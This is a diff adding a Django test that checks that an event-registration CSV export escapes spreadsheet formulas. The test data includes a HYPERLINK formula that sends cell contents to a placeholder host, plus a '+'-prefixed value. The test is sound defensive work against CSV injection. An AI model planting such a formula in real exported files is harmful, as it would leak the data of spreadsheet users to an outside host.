@@ -69,3 +69,21 @@ def test_demo_calendar_covers_what_the_browser_tests_visit(calendar):
             workshop.locale.__class__.objects.get(language_code=code)
         ), code
     assert Registration.objects.filter(email__endswith="@example.org").exists()
+
+
+def test_registrations_csv_never_carries_a_spreadsheet_formula(client, editor, make_event):
+    from events.registration import register
+
+    page = make_event(registration_enabled=True, capacity=5)
+    formula = '=HYPERLINK("http://example.org/?x="&A1,"x")'
+    register(page, name=formula, email="formula@example.org", organisation="+48 58 000")
+    register(page, name="Anna Zielińska", email="anna@example.org")
+    shared = SharedEvent.for_page(page)
+    client.force_login(editor)
+    response = client.get("/admin/event_registrations/", {"export": "csv", "event": shared.pk})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    columns = RegistrationViewSet.list_export
+    names = {row[columns.index("name")] for row in rows[1:]}
+    assert names == {"'" + formula, "Anna Zielińska"}
+    organisations = {row[columns.index("organisation")] for row in rows[1:]}
+    assert "'+48 58 000" in organisations
